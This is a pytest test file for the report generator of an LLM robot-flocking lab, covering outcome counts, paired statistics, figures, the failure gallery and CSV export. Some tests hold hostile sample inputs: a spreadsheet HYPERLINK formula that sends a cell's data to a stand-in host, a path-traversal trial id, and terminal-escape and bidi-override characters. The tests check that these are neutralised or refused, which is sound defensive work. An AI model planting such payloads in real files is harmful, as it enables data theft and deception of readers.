"""The report: what it counts, what it draws, and what it shows of failures."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import numpy as np
import polars as pl
import pytest
from sample_records import FakeRun
from sample_results import SEEDS, trial, write_results

from llm_flock.errors import InputError, RecordError
from llm_flock.printable import printable
from llm_flock.record._reader import read_record
from llm_flock.record._writer import RecordWriter
from llm_flock_lab._experiments import tables
from llm_flock_lab._experiments.store import Store
from llm_flock_lab._report.drawings import along_axes, draw_all, success
from llm_flock_lab._report.findings import ERROR, caveats, cell_lines, pair_lines, usual_reference
from llm_flock_lab._report.gallery import find_causes, gallery, worst
from llm_flock_lab._report.page import inline_svg, write_report
from llm_flock_lab._report.results import ENDINGS, Results
from llm_flock_lab._report.sheets import facts, interval, success_sheet
from llm_flock_view._figures.charts import fold, shorten


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> Results:
    return Results.read(write_results(tmp_path_factory.mktemp("results")))


def test_every_trial_is_counted_once(results: Results) -> None:
    counts = results.outcomes()
    assert list(counts) == list(ENDINGS)
    assert {end: count for end, count in counts.items() if count} == {
        "formed": 12,
        "not formed": 18,
        "budget": 4,
        "broke off": 2,
    }
    lines = cell_lines(results)
    assert [sum(line.outcomes.values()) for line in lines] == [SEEDS] * 6
    broken = next(line for line in lines if line.cell.protocol == "baseline")
    assert broken.formed.value == 0.0 and broken.trials == SEEDS and broken.errors_known == SEEDS - 1


def test_cells_come_by_team_then_protocol(results: Results) -> None:
    assert [(cell.team.n_robots, cell.protocol) for cell in results.cells] == [
        (n, protocol) for n in (3, 10) for protocol in ("flock", "paper", "baseline")
    ]


def test_curve_keeps_its_last_error_broken_trials_have_none(results: Results) -> None:
    flock = next(trials for cell, trials in results.cells.items() if cell.protocol == "flock")
    table = results.curves(flock, 12)
    assert table.shape == (SEEDS, 12)
    assert table[0, 4] == 20 * 0.5**4 and (table[0, 4:] == table[0, 4]).all()
    baseline = next(trials for cell, trials in results.cells.items() if cell.protocol == "baseline")
    assert results.curves(baseline, 12).shape == (SEEDS - 1, 12)


def test_rounds_without_an_error_are_left_open(tmp_path: Path) -> None:
    one = trial("circle", 10, "flock", 0)
    Store(tmp_path).save(trial("circle", 10, "flock", 0, rounds=one.rounds | {"error": [4.0, None, 2.0, 1.0, None]}))
    found = Results.read(tmp_path)
    np.testing.assert_array_equal(found.curves(found.trials, 7), [[4.0, np.nan, 2.0, 1.0, np.nan, 1.0, 1.0]])


def test_what_errors_do_not_tell_is_said_of_each_protocol(tmp_path: Path) -> None:
    off: dict[str, object] = {"steps_over_limit": 2, "center_distance": 65.0}
    store = Store(tmp_path)
    for seed, changes in enumerate((off, off | {"center_distance": 0.9}, {}), start=7):
        one = trial("circle", 10, "baseline", seed)
        store.save(trial("circle", 10, "baseline", seed, summary=dict(one.summary or {}) | changes))
        store.save(trial("circle", 10, "flock", seed))
    store.save(trial("circle", 10, "baseline", 1))
    assert caveats(Results.read(tmp_path)) == [
        "baseline: of 4 trials, in 1 two robots came nearer than the safe distance; "
        "in 2 steps longer than the limit ended there; in 1 the team ended beside the centre of its mission."
    ]


def test_without_a_baseline_a_preset_is_the_reference(results: Results, monkeypatch: pytest.MonkeyPatch) -> None:
    for protocols in (("flock", "flock with my_rules:Own"), ("flock", "paper")):
        monkeypatch.setitem(vars(results), "protocols", protocols)
        assert usual_reference(results) == "flock"


def test_pairs_share_a_seed_and_broken_trials_count_in_success(results: Results) -> None:
    assert usual_reference(results) == "baseline"
    lines = pair_lines(results, "baseline")
    assert [(line.cell.team.n_robots, line.cell.protocol) for line in lines] == [
        (3, "flock"), (3, "paper"), (10, "flock"), (10, "paper"),
    ]  # fmt: skip
    flock = lines[0]
    assert flock.formed.pairs == SEEDS and flock.formed.difference.value == 1.0
    means = flock.means[ERROR]
    assert means is not None and means.pairs == SEEDS - 1
    expected = np.mean([20 * 0.5 ** (seed + 4) - (20 * 0.5**10 + 3) for seed in range(SEEDS - 1)])
    assert means.difference.value == pytest.approx(expected)
    rounds = flock.means["rounds to the formation"]
    assert results.horizons[flock.cell.team] == (10.0, 8.0), "the others flew 10 rounds in vain, without a bound"
    # Seed 0 of the baseline lost its budget, seed 5 broke off and never formed; flock took seed + 4.
    assert rounds is not None and rounds.pairs == SEEDS and rounds.difference.value == pytest.approx(-3.5)
    assert rounds.p_value == pytest.approx(2 / 2**6) and flock.formed.p_value == pytest.approx(2 / 2**6)


def test_tables_say_how_trials_ended(results: Results) -> None:
    sheet = success_sheet(results, cell_lines(results))
    assert sheet.header[:4] == ("shape", "N", "protocol", "trials"), "one model flew everything"
    row = dict(zip(sheet.header, sheet.rows[2], strict=True))
    assert (row["protocol"], row["trials"], row["budget"], row["broke off"]) == ("baseline", "6", "1", "1")
    assert "no answers" not in sheet.header


def test_intervals_are_formatted_for_reading() -> None:
    from llm_flock_lab._experiments.statistics import Estimate

    assert interval(None, 2) == "-"
    assert interval(Estimate(value=-0.001, low=None, high=None), 2, signed=True) == "+0.00"
    minus = "\N{MINUS SIGN}"
    assert interval(Estimate(value=0.5, low=-0.25, high=1.0), 1, 100.0) == f"50.0 [{minus}25.0, 100.0]"


def test_figures_of_everything_that_was_measured(results: Results) -> None:
    captions = {drawing.name: drawing.caption for drawing in draw_all(results, "baseline")}
    assert list(captions) == [
        "success", "error-by-protocol", "paired-success", "paired-error", "rounds-over-bound",
        "separation", "calls", "tokens", "cost",
    ]  # fmt: skip
    assert "2 of 36 trials have no error" in captions["error-by-protocol"]
    assert "Student" in captions["calls"] and "baseline: without consensus" in captions["error-by-protocol"]


def test_success_is_not_pooled_over_protocols_rows_are_named(results: Results) -> None:
    shown = {name: value for value, name in facts(results, [])}
    assert shown["trials"] == "36" and "formed with flock" in shown and "formed with baseline" in shown
    assert not [name for name in shown if "%" in name or "too near" in name]
    drawing = next(drawing for drawing in draw_all(results, "baseline") if drawing.name == "success")
    labels = [label.get_text() for label in drawing.figure.axes[0].get_yticklabels()]
    assert labels == list(results.protocols)


def test_every_axis_of_every_figure_has_its_name_and_its_numbers(tmp_path: Path) -> None:
    """Five teams stand in two rows of panels, the second of which is not full; one protocol makes one row of dots."""
    for n in range(3, 8):
        Store(tmp_path).save(trial("circle", n, "flock", 1))
    for drawing in draw_all(Results.read(tmp_path), "flock"):
        assert drawing.figure.get_supxlabel() and drawing.figure.get_supylabel(), drawing.name
        drawing.figure.canvas.draw()
        for number, axes in enumerate(panel for panel in drawing.figure.axes if panel.axison):
            bottom = number in (1, 2, 3, 4) or len(drawing.figure.axes) < 4
            assert any(label.get_visible() for label in axes.get_xticklabels()) is bottom, (drawing.name, number)
        assert drawing.title != "Error over time, by model", "there is one model"
        shown = [text.get_text() for legend in drawing.figure.legends for text in legend.get_texts()]
        assert "95 % interval of the mean" not in shown, "one trial a cell has no interval"


def test_long_names_keep_what_tells_them_apart() -> None:
    one, other = (fold(f"openai:{'very-long-' * 9}{end} · loss 0.1", 26) for end in ("one", "two"))
    assert one != other and max(map(len, one.split("\n"))) <= 26 and one.endswith("e · loss 0.1")
    assert len(shorten("x" * 99, 44)) == 44 and shorten("x" * 44, 44) == "x" * 44


def test_a_team_without_a_plan_is_the_worst_of_no_other_end(tmp_path: Path) -> None:
    """Every outcome has its place in the gallery."""
    for end in ("no_plan", "no_answers", "rounds", "interrupted", "budget"):
        ended = trial("circle", 10, "paper", 1).summary or {}
        Store(tmp_path).save(trial("circle", 10, "paper", 1, id=end, summary=ended | {"stopped": end}))
    found = [one.outcome for one in worst(Results.read(tmp_path), 9)]
    assert found == ["no answers", "no plan", "interrupted", "budget", "not formed"]


@pytest.mark.parametrize(("values", "comm_rounds"), [(("0.1", "0.3"), False), (("none", "loss"), True)])
def test_axes_of_the_grid_are_drawn(tmp_path: Path, values: tuple[str, str], comm_rounds: bool) -> None:
    for number, value in enumerate(values):
        for seed in range(3):
            one = trial("circle", 10, "flock", seed)
            Store(tmp_path).save(
                trial("circle", 10, "flock", seed, id=f"{number}{seed}", axes={"loss": value}, cell=value)
            )
            assert one.axes == {}
    found = Results.read(tmp_path)
    assert found.axes == {"loss": values if not comm_rounds else tuple(found.axes["loss"])}
    drawn = {drawing.name: drawing for drawing in along_axes(found)}
    assert set(drawn) == {"formed-along-loss", "error-along-loss", "calls-along-loss"}
    labels = [text.get_text() for text in drawn["formed-along-loss"].figure.axes[0].get_xticklabels()]
    assert (set(labels) == set(values)) is comm_rounds


def test_one_trial_of_one_robot_is_enough(tmp_path: Path) -> None:
    Store(tmp_path).save(trial("line", 1, "flock", 0))
    (tmp_path / "sweep.toml").write_text('[sweep]\nname = "small <one>"\nabout = "About | it"\n')
    (tmp_path / "plan.json").write_text('{"line1flock0": ["a", "0"], "other": ["a", "1"]}')
    page, markdown = (path.read_text() for path in sorted(write_report(tmp_path, tmp_path / "r", formats=["svg"])[:2]))
    assert "small &lt;one&gt;" in page and "About \\| it" in markdown
    assert all("1 of 2 trials are still to be flown" in text for text in (page, markdown))


def test_figures_of_trials_that_do_not_differ_have_axes(tmp_path: Path) -> None:
    """One robot stands in formation from the start, with any protocol."""
    rounds = {**trial("line", 1, "flock", 0).rounds, "error": [0.0] * 5}
    for protocol in ("flock", "baseline"):
        one = trial("line", 1, "flock", 0)
        figures = {**(one.summary or {}), "rounds_to_formed": 0, "lower_bound_rounds": 0, "procrustes_mean": 0.0}
        config = trial("line", 1, protocol, 0).config
        saved = trial("line", 1, "flock", 0, id=protocol, cell=protocol, config=config, summary=figures, rounds=rounds)
        Store(tmp_path).save(saved)
    drawn = {drawing.name: drawing.figure for drawing in draw_all(Results.read(tmp_path), "baseline")}
    assert drawn["paired-error"].axes[0].get_xlim() == (-1.0, 1.0)
    low, high = drawn["rounds-over-bound"].axes[0].get_xlim()
    assert low < 0.0 < 1.0 < high


def test_gallery_begins_with_one_of_each_protocol_and_ending(results: Results) -> None:
    chosen = [(trial.outcome, trial.cell.protocol) for trial in worst(results, 5)]
    assert chosen == [
        ("broke off", "baseline"), ("budget", "baseline"), ("budget", "paper"), ("not formed", "baseline"),
        ("not formed", "paper"),
    ]  # fmt: skip
    assert len(worst(results, 100)) == 24 and worst(results, 0) == []


def test_failure_with_a_record_has_snapshots_and_conversation(results: Results) -> None:
    shown = {failure.trial.id: failure for failure in gallery(results, 100)}
    failure = shown["circle10paper1"]
    assert failure.figure is not None and "records/circle10paper1.mcap" in failure.source
    assert any("10 plans were in use at the end" in story.text for story in failure.stories)
    talk = next(story.conversation for story in failure.stories if story.conversation)
    assert [line.role for line in talk] == ["system", "user", "assistant", "verdict"]
    assert talk[-1].text == "The answer was taken."
    without = shown["circle10paper2"]
    assert without.figure is None and "keep-records" in without.source


def test_a_simulated_trial_without_a_record_is_flown_again(tmp_path: Path) -> None:
    from llm_flock.runtime._api import run
    from llm_flock.runtime._config import load_config

    config = load_config(None, shape="triangle", n_robots=3, protocol="baseline", rounds=4, seed=2)
    found = run(config=config).summary.to_dict()
    one = trial("triangle", 3, "baseline", 2)
    stored = trial("triangle", 3, "baseline", 2, config=config.model_dump(mode="json"), summary=found, simulated=True)
    assert one.id == stored.id
    Store(tmp_path).save(stored)
    (failure,) = gallery(Results.read(tmp_path), 3)
    assert failure.figure is not None and failure.source == "No record was kept; flown again from its configuration."
    (failure,) = gallery(Results.read(tmp_path), 3, fly_again=False)
    assert failure.figure is None


def test_damaged_record_is_reported_and_hurts_nothing(tmp_path: Path) -> None:
    write_results(tmp_path)
    (tmp_path / "records" / "circle10paper1.mcap").write_bytes(b"nonsense")
    shown = {failure.trial.id: failure for failure in gallery(Results.read(tmp_path), 100)}
    assert shown["circle10paper1"].source.startswith("There are no pictures: ")


def test_a_crash_names_the_pair_and_the_round(tmp_path: Path) -> None:
    run = FakeRun(n=4, rounds=5)
    run.start[1] = run.start[0] + [0.5, 0.0]
    with RecordWriter(tmp_path / "run.mcap") as writer:
        run.write(writer)
    first, *_ = find_causes(read_record(tmp_path / "run.mcap"))
    assert first.text == "At the start, robots 0 and 1 came within 0.50 units of each other." and first.round == 0


def test_a_figure_on_a_page_takes_the_pages_colours(results: Results) -> None:
    drawing = success(results, cell_lines(results))
    text = str(inline_svg(drawing.figure, "x", 'says "so"'))
    assert "var(--ink)" in text and "var(--series-0)" in text and 'aria-label="says &#34;so&#34;"' in text
    assert not re.search(r"#[0-9a-f]{6}\b", text.lower().replace('href="#', ""))
    assert all(name.startswith("x-") for name in re.findall(r'\bid="([^"]+)"', text))


def test_report_rejects_bad_input_and_writes_nothing(results: Results, tmp_path: Path) -> None:
    with pytest.raises(InputError, match="directory of results"):
        write_report(tmp_path / "nothing", tmp_path / "out")
    (tmp_path / "empty" / "trials").mkdir(parents=True)
    with pytest.raises(InputError, match="at least one finished trial"):
        write_report(tmp_path / "empty", tmp_path / "out")
    with pytest.raises(InputError, match="formats"):
        write_report(results.folder, tmp_path / "out", formats=["bmp"])
    with pytest.raises(InputError, match="unknown protocol or AXIS=VALUE"):
        write_report(results.folder, tmp_path / "out", reference="nobody's")
    assert not (tmp_path / "out").exists()


def test_csv_holds_the_same_tables(results: Results, tmp_path: Path) -> None:
    trials, rounds = tables.export_csv(results.folder, tmp_path)
    with trials.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert [row["trial"] for row in rows] == tables.read_trials(results.folder)["trial"].to_list()
    again = pl.read_csv(rounds, schema=tables.read_rounds(results.folder).schema)
    assert again.equals(tables.read_rounds(results.folder))


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff20"])
def test_no_text_of_csv_tables_begins_as_a_formula(begins: str, tmp_path: Path) -> None:
    evil = begins + 'HYPERLINK("http://elsewhere.invalid/?"&A1,"\x1b[2Jcl\u202e\u3164ick")'
    Store(tmp_path).save(
        trial(
            "circle",
            10,
            "flock",
            0,
            cell=evil,
            error=evil,
            axes={"mine": evil, "\x1b\u202e": "x"},
            code=evil,
            record=None,
        )
    )
    path, _ = tables.export_csv(tmp_path, tmp_path)
    with path.open(newline="", encoding="utf-8") as file:
        (row,) = csv.DictReader(file)
    shown = evil.replace("\x1b", "\\x1b").replace("\u202e", "\\u202e").replace("\u3164", "\\u3164")
    shown = "\\r" + shown[1:] if begins == "\r" else f"'{shown}"
    assert {row[name] for name in ("cell", "error", "axis_mine", "code")} == {shown} and row["axis_\\x1b\\u202e"] == "x"
    assert not [text for text in row.values() if text[:1] == begins]
    assert printable(path.read_text(encoding="utf-8")) == path.read_text(encoding="utf-8")
    assert tables.read_trials(tmp_path)["cell"].to_list() == [evil], "the tables of the sweep are left as they are"


def test_every_figure_of_simulated_models_is_labelled(tmp_path: Path) -> None:
    Store(tmp_path).save(trial("circle", 10, "flock", 0, simulated=True))
    for drawing in draw_all(Results.read(tmp_path), "flock"):
        assert [legend.get_title().get_text() for legend in drawing.figure.legends] == ["simulated language models"]


def test_lack_of_plan_and_a_model_not_asked_are_explained(tmp_path: Path) -> None:
    import llm_flock

    mission = llm_flock.Mission(shape="triangle", n_robots=3)
    llm_flock.run(mission, model="simulated:distorted", seed=1, out=str(tmp_path / "none"))
    first, *_ = find_causes(read_record(tmp_path / "none" / "run.mcap"))
    assert "(simulated:distorted) gave no usable answer in 18 of 18 calls. The last reason: " in first.text
    assert len({entry.robot for entry in first.calls}) == 1 and first.calls[-1].rejected
    model = "0=simulated:malformed,1-2=simulated:ideal"
    llm_flock.run(mission, model=model, seed=1, rounds=4, out=str(tmp_path / "short"))
    first, *_ = find_causes(read_record(tmp_path / "short" / "run.mcap"))
    assert first.text.startswith("Robot 0: its model (simulated:malformed) gave no usable answer in ")


def _one(folder: Path, **changes: object) -> Path:
    """A directory with one failed simulated trial, changed, and no tables."""
    store = Store(folder)
    store.save(trial("circle", 10, "paper", 1, simulated=True, **changes))
    return folder


@pytest.mark.parametrize(
    "section",
    [{"model": "openai:o3-mini"}, {"record_llm": "TALK"}, {"prompts": "/somewhere"}],
    ids=lambda s: next(iter(s)),
)
def test_stored_trial_asks_no_model_and_writes_nothing(section: dict[str, str], tmp_path: Path) -> None:
    """A directory of results may come from anywhere; that a trial is simulated is only what it says."""
    fields = {"model": "simulated:ideal"} | {k: v.replace("TALK", str(tmp_path / "talk")) for k, v in section.items()}
    config = {"mission": {"shape": "circle", "n_robots": 10}, "model": fields, "protocol": {}, "trial": {"seed": 1}}
    config = trial("circle", 10, "paper", 1).config | {"model": config["model"]}
    (failure,) = gallery(Results.read(_one(tmp_path / "results", config=config)), 1)
    assert "was not flown again: its configuration names" in failure.source and not (tmp_path / "talk").exists()


def test_a_stored_trial_runs_no_rule_of_another_package(tmp_path: Path) -> None:
    config = trial("circle", 10, "paper", 1).config
    config = config | {"model": {"model": "simulated:ideal"}, "protocol": config["protocol"] | {"consensus": "this:x"}}
    (failure,) = gallery(Results.read(_one(tmp_path, config=config)), 1)
    assert "its configuration names files, code or addresses (consensus)" in failure.source


def test_a_page_neither_turns_text_around_nor_hides_it(tmp_path: Path) -> None:
    folder = _one(tmp_path, axes={"kind": "\u202egnp\x1b[2J"}, error="\u2066x\u200b")
    write_report(folder, tmp_path / "out", formats=["svg"], fly_again=False)
    for name in ("report.html", "report.md"):
        text = (tmp_path / "out" / name).read_text(encoding="utf-8")
        assert printable(text) == text and "202egnp" in text


@pytest.mark.parametrize(
    "change",
    [
        {"config": {}},
        {"config": {"mission": {"shape": "circle", "n_robots": 0}, "trial": {"seed": 1}}},
        {"config": {"mission": {"shape": None, "n_robots": 3}, "trial": {"seed": 1}}},
        {"rounds": {}},
        {"rounds": {"round": [0]}},
        {"summary": {"waypoints": 5}},
    ],
    ids=str,
)
def test_trials_that_are_none_are_refused_in_one_line(change: dict[str, object], tmp_path: Path) -> None:
    with pytest.raises(RecordError) as refused:
        Results.read(_one(tmp_path, **change))
    assert "\n" not in str(refused.value)


def test_a_trial_has_the_name_of_its_file(tmp_path: Path) -> None:
    """Files of figures are named by it."""
    store = Store(tmp_path)
    store.save(trial("circle", 10, "paper", 1))
    path = store.trial_path("circle10paper1")
    path.write_bytes(path.read_bytes().replace(b'"id":"circle10paper1"', b'"id":"../../elsewhere"'))
    with pytest.raises(RecordError, match="another file"):
        Results.read(tmp_path)


def test_a_report_says_who_answered_if_nobody_asked_for_it(tmp_path: Path) -> None:
    store, one = Store(tmp_path), trial("triangle", 3, "flock", 1)
    assert one.summary is not None
    for seed, name in ((1, "openai:o3-mini-2025-01-31"), (2, "openai:other.gguf")):
        store.save(trial("triangle", 3, "flock", seed, summary=one.summary | {"answered_by": [name]}))
    tables.build_tables(tmp_path)
    written = write_report(tmp_path, tmp_path / "out", formats=["svg"], fly_again=False)
    text = next(path for path in written if path.suffix == ".html").read_text()
    assert "the model that answered is openai:other.gguf, not openai:o3-mini." in text and "2025-01-31" not in text
